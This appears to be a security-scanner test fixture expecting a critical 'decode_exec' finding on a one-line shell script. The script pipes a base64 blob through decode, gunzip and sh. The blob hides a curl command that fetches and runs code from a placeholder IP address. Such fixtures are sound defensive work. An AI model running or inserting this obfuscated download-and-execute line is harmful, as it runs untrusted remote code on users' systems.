# expect: shell.decode_exec critical
# path: scripts/p.sh
#!/bin/sh
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | gunzip | sh
